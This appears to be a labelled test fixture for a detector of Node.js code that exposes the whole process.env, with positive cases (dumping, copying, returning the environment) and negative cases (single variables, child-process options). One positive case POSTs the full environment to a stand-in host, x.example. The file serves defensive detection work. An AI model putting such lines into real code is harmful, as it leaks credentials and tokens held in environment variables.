//@ pos JSON.stringify(process.env)
console.log(JSON.stringify(process.env));
//@ pos Object.keys and Object.entries
for (const k of Object.keys(process.env)) console.log(k);
Object.entries(process.env);
//@ pos console.log(process.env)
console.log(process.env);
//@ pos spread into an object
const all = { ...process.env };
//@ pos sent over the network
fetch('https://x.example', { method: 'POST', body: JSON.stringify({ ...process.env }) });
//@ pos through an alias
const env = process.env;
send(env);
//@ pos for...in
for (const k in process.env) out.push(k + '=' + process.env[k]);
//@ pos destructuring with a rest
const { HOME, ...rest } = process.env;
//@ pos through require('process') and globalThis
const p = require('process');
console.log(p.env);
console.log(globalThis.process['env']);
//@ pos returned
function getEnv() { return process.env; }
//@ pos Object.assign copy
const copy = Object.assign({}, process.env);
//@ neg one variable
const home = process.env.HOME;
const port = process.env['PORT'] || 3000;
console.log(home, port, process.env.NODE_ENV === 'production');
//@ neg destructuring named variables
const { HOME, PATH } = process.env;
console.log(HOME, PATH);
//@ neg env in a child's options
require('child_process').spawn('node', ['x.js'], { env: process.env, stdio: 'inherit' });
//@ neg a local env object
const env = { a: 1 };
console.log(JSON.stringify(env));
//@ neg a local named process
function f(process) { return JSON.stringify(process.env); }
//@ pos the environment as a member of an object given to JSON.stringify
const payload = JSON.stringify({ host: require('os').hostname(), env: process.env });
//@ pos the environment kept in an object
const report = { when: Date.now(), env: process.env };
console.log(report);
//@ neg the environment given to a child process
require('child_process').spawnSync('git', ['status'], { env: process.env });
//@ neg one variable in an object
const cfg = { port: process.env.PORT, home: process.env.HOME };
//@ pos the diagnostic report holds the environment
const report = process.report.getReport();
console.log(report.environmentVariables);
//@ neg the diagnostic report's settings
process.report.reportOnFatalError = true;
process.report.directory = './reports';
